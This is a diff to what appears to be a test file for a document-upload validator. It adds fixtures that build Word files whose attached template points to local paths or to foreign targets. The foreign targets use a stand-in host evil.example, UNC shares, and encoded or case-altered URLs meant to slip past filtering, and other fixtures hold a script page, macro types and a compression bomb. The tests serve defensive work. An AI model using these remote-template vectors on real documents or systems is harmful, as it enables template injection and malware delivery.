@@ -61,7 +61,18 @@ GOOD = {
 }
 ZEROS = b"\0" * (30 * 1024 * 1024)
 MACRO_TYPES = TYPES.replace(b"</Types>", b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')
-REMOTE = b'<Relationship Type="attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+
+
+def template(target: str) -> bytes:
+    """A document of Word that names the template it was made from."""
+    return office("docx", **{"word/_rels/settings.xml.rels":
+                             f'<Relationship Target="{target}" TargetMode="External" Type="http://x/attachedTemplate" Id="a&gt;"/>'.encode()})
+
+
+OWN_TEMPLATES = ["file:///C:\\Users\\taro\\AppData\\Roaming\\Microsoft\\Templates\\%E5%B1%A5.dotx", "file:///d:/t.dotx", "C:\\t.dotx",
+                 "file:///Users/taro/t.dotx", "Normal.dotm", "../t.dotx"]
+FOREIGN_TEMPLATES = ["https://evil.example/t.dotm", "HTTP://evil.example/", "&#104;ttp://evil.example/", "ftp://evil.example/t", "\\\\evil\\t.dotm", "//evil/t",
+                     "file://evil/t.dotm", "file:////evil/t", "file:///\\\\evil\\t", "file:\\\\evil\\t", "file:///%5c%5cevil/t", " https://evil.example/"]
 NOT_ITSELF = {
     "exe.pdf": EXE, "page.pdf": b"<html><script>alert(1)</script>", "late.pdf": b"\n" * 50 + PDF, "pdf.docx": PDF,
     "docx.pdf": office(), "plain.docx": archive({"a.txt": b"x"}), "xlsx.docx": office("xlsx"), "odt.ods": open_document("odt"),
@@ -81,7 +92,7 @@ WITH_PROGRAM = {
     "ole.pptx": office("pptx", **{"ppt/embeddings/oleObject1.bin": b"x"}), "basic.odt": open_document("odt", **{"Basic/script.xml": b"x"}),
     "scripts.ods": open_document("ods", **{"Scripts/python/a.py": b"x"}),
     "enabled.docx": archive({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": b"<x/>"}),
-    "remote.docx": office("docx", **{"word/_rels/settings.xml.rels": REMOTE}),
+    **{f"remote{number}.docx": template(target) for number, target in enumerate(FOREIGN_TEMPLATES)},
 }
 TOO_MUCH = {
     "ratio.docx": office("docx", **{"word/media/zeros.bin": ZEROS}),
